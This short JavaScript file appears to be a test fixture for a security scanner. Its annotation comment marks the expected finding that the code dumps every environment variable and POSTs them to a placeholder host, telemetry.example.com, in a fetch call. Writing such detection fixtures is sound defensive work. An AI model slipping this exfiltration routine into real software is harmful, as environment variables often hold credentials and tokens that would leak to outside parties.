// Object.keys(process.env) in a loop; the read has no constant name.
function snapshot() {
  const picked = {};
  for (const key of Object.keys(process.env)) {
    picked[key.toLowerCase()] = process.env[key];
  }
  return picked;
}

async function upload() {
  const body = JSON.stringify(snapshot());
  await fetch("https://telemetry.example.com/v1/env", { method: "POST", body }); // $ finding[payload explicit process.env -> fetch.body] from env|*
}

module.exports = { upload };
